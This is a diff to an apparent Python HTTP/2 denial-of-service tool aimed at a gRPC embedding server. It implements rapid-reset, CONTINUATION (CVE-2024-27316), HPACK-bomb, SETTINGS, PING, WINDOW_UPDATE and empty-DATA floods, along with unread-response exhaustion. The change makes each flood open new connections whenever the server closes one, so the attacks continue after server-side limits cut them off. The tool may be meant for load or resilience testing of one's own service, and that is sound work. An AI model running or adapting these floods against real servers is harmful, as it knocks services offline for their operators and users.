@@ -71,15 +71,22 @@ def request(rows: int) -> bytes:
     return message(pb.EmbedRequest(model=pb.ModelSelector(name="digits-vae"), input=given).SerializeToString())
 
 
-def flood(peer: Peer, sent: bytes, effort: Effort, most: int = 400 << 20, reads: bool = False) -> str:
-    """The same bytes again and again until time or bytes are up, or the server has had enough."""
-    end, total = time.monotonic() + effort.seconds, 0
-    while time.monotonic() < end and total < effort.times(most) and peer.send(sent):
-        total += len(sent)
-        if reads:
-            peer.taken()
-    peer.taken(most=1 << 20)
-    return f"{total / 2**20:.1f} MiB, {'open' if peer.is_open else 'closed'}"
+def flood(
+    connect: Callable[[], Peer], sent: bytes, effort: Effort, held: Held, most: int = 400 << 20, reads: bool = False
+) -> str:
+    """The same bytes until time or bytes are up, on a new connection when the server closes one or reads no more."""
+    end, total, connections = time.monotonic() + effort.seconds, 0, 0
+    while time.monotonic() < end and total < effort.times(most):
+        peer = connect()
+        connections += 1
+        held.append(peer)
+        while time.monotonic() < end and total < effort.times(most) and peer.send(sent):
+            total += len(sent)
+            if reads:
+                peer.taken()
+        if not peer.taken(most=1 << 20):
+            held.pop().close()
+    return f"{total / 2**20:.1f} MiB on {connections} connections, {sum(peer.is_open for peer in held)} open"
 
 
 def rapid_reset(target: str, effort: Effort, __: Held) -> str:
@@ -105,19 +112,13 @@ def rapid_reset(target: str, effort: Effort, __: Held) -> str:
 
 def continuation(target: str, effort: Effort, held: Held) -> str:
     """CVE-2024-27316: header fields without an end."""
-    peer = Peer(target)
-    held.append(peer)
-    peer.send(frame(HEADERS, END_STREAM, 1, b""))
     literal = b"\0\x03x-a\x7f\x81\x7c" + b"a" * 16000  # not indexed; a length of 127 + 1 + 124 x 128
-    return flood(peer, frame(CONTINUATION, 0, 1, literal), effort)
+    return flood(lambda: _unended(target), frame(CONTINUATION, 0, 1, literal), effort, held)
 
 
 def empty_continuation(target: str, effort: Effort, held: Held) -> str:
     """As `continuation`, without a byte."""
-    peer = Peer(target)
-    held.append(peer)
-    peer.send(frame(HEADERS, END_STREAM, 1, b""))
-    return flood(peer, frame(CONTINUATION, 0, 1) * 20 * AT_ONCE, effort, 30 << 20)
+    return flood(lambda: _unended(target), frame(CONTINUATION, 0, 1) * 20 * AT_ONCE, effort, held, 30 << 20)
 
 
 def hpack_bomb(target: str, effort: Effort, __: Held) -> str:
@@ -141,69 +142,73 @@ def hpack_bomb(target: str, effort: Effort, __: Held) -> str:
 
 def settings(target: str, effort: Effort, held: Held) -> str:
     """Windows changed thousands of times in each frame, with a thousand streams open, answers not read."""
-    peer = _with_streams(target, 999)
-    held.append(peer)
     entries = b"".join(setting(INITIAL_WINDOW_SIZE, DEFAULT_WINDOW + number % 2) for number in range(2700))
-    return flood(peer, frame(SETTINGS, 0, 0, entries), effort, 5 << 20)
+    return flood(lambda: _with_streams(target, 999), frame(SETTINGS, 0, 0, entries), effort, held, 5 << 20)
 
 
 def empty_settings(target: str, effort: Effort, held: Held) -> str:
     """Each is to be acknowledged; no acknowledgement is read."""
-    return flood(_watching(target, held), frame(SETTINGS, 0, 0) * 4 * AT_ONCE, effort)
+    return flood(lambda: _watching(target), frame(SETTINGS, 0, 0) * 4 * AT_ONCE, effort, held)
 
 
 def ping(target: str, effort: Effort, held: Held) -> str:
     """Each is to be answered; no answer is read."""
-    return flood(_watching(target, held), frame(PING, 0, 0, b"12345678") * 4 * AT_ONCE, effort)
+    return flood(lambda: _watching(target), frame(PING, 0, 0, b"12345678") * 4 * AT_ONCE, effort, held)
 
 
 def ping_read(target: str, effort: Effort, held: Held) -> str:
     """Each is to be answered, and the answers are read."""
-    return flood(_watching(target, held), frame(PING, 0, 0, b"12345678") * 4 * AT_ONCE, effort, reads=True)
+    return flood(lambda: _watching(target), frame(PING, 0, 0, b"12345678") * 4 * AT_ONCE, effort, held, reads=True)
 
 
 def windows(target: str, effort: Effort, held: Held) -> str:
     """One byte more room for the connection, again and again, with a thousand streams open."""
-    peer = _with_streams(target, 999)
-    held.append(peer)
-    return flood(peer, window_update(0, 1) * 4 * AT_ONCE, effort, 60 << 20)
+    return flood(lambda: _with_streams(target, 999), window_update(0, 1) * 4 * AT_ONCE, effort, held, 60 << 20)
 
 
 def empty_data(target: str, effort: Effort, held: Held) -> str:
     """Frames of a body without a byte of it."""
-    peer = Peer(target)
-    held.append(peer)
-    peer.send(peer.opening(SCORE_STREAM))
-    return flood(peer, frame(DATA, 0, 1) * 10 * AT_ONCE, effort, 60 << 20)
+
+    def streaming() -> Peer:
+        peer = Peer(target)
+        peer.send(peer.opening(SCORE_STREAM))
+        return peer
+
+    return flood(streaming, frame(DATA, 0, 1) * 10 * AT_ONCE, effort, held, 60 << 20)
 
 
 def unread_answers(target: str, effort: Effort, held: Held) -> str:
     """Windows wide open, the socket not read: requests of 64 kB, answers of 1 MB."""
-    peer = Peer(target, setting(INITIAL_WINDOW_SIZE, WIDEST), receive_bytes=SMALL_BUFFER)
-    held.append(peer)
-    peer.send(window_update(0, WIDEST - DEFAULT_WINDOW))
     body, asked, end = request(ROWS), 0, time.monotonic() + effort.seconds
     while time.monotonic() < end and asked < effort.times(800):
-        head = peer.opening(EMBED)
-        if not peer.send(head + data_frames(peer.stream, body, ended=True)):
-            break
-        asked += 1
-        time.sleep(0.02)
-    return f"{asked} requests, {'open' if peer.is_open else 'closed'}"
+        peer = Peer(target, setting(INITIAL_WINDOW_SIZE, WIDEST), receive_bytes=SMALL_BUFFER)
+        held.append(peer)
+        peer.send(window_update(0, WIDEST - DEFAULT_WINDOW))
+        while time.monotonic() < end and asked < effort.times(800):
+            head = peer.opening(EMBED)
+            if not peer.send(head + data_frames(peer.stream, body, ended=True)):
+                break
+            asked += 1
+            time.sleep(0.02)
+    return f"{asked} requests on {len(held)} connections, {sum(peer.is_open for peer in held)} open"
 
 
 def unread_errors(target: str, effort: Effort, held: Held) -> str:
     """Unknown methods whose long name is a few bytes by now; no answer is read."""
-    peer = Peer(target, receive_bytes=SMALL_BUFFER)
-    held.append(peer)
-    block, asked, end = peer.short_block("/" + "x" * 900), 0, time.monotonic() + effort.seconds
-    while time.monotonic() < end and peer.is_open:
-        pieces = []
-        for _ in range(2 * AT_ONCE):
-            peer.stream += 2
-            pieces.append(frame(HEADERS, END_HEADERS | END_STREAM, peer.stream, block))
-        asked += 2 * AT_ONCE if peer.send(b"".join(pieces)) else 0
-    return f"{asked:,} requests, {'open' if peer.is_open else 'closed'}"
+    asked, end = 0, time.monotonic() + effort.seconds
+    while time.monotonic() < end:
+        peer = Peer(target, receive_bytes=SMALL_BUFFER)
+        held.append(peer)
+        block = peer.short_block("/" + "x" * 900)
+        while time.monotonic() < end and peer.is_open:
+            pieces = []
+            for _ in range(2 * AT_ONCE):
+                peer.stream += 2
+                pieces.append(frame(HEADERS, END_HEADERS | END_STREAM, peer.stream, block))
+            if not peer.send(b"".join(pieces)):
+                break
+            asked += 2 * AT_ONCE
+    return f"{asked:,} requests on {len(held)} connections, {sum(peer.is_open for peer in held)} open"
 
 
 def _with_streams(target: str, number: int) -> Peer:
@@ -219,10 +224,16 @@ def _with_streams(target: str, number: int) -> Peer:
     return peer
 
 
-def _watching(target: str, held: Held) -> Peer:
+def _unended(target: str) -> Peer:
+    """A connection whose first header fields are to go on."""
+    peer = Peer(target)
+    peer.send(frame(HEADERS, END_STREAM, 1, b""))
+    return peer
+
+
+def _watching(target: str) -> Peer:
     """A connection with a stream that stays open for a good reason, and whose answers are not read."""
     peer = Peer(target, receive_bytes=SMALL_BUFFER)
-    held.append(peer)
     peer.send(peer.opening(WATCH) + frame(DATA, END_STREAM, 1, message(b"")))
     time.sleep(0.2)
     return peer
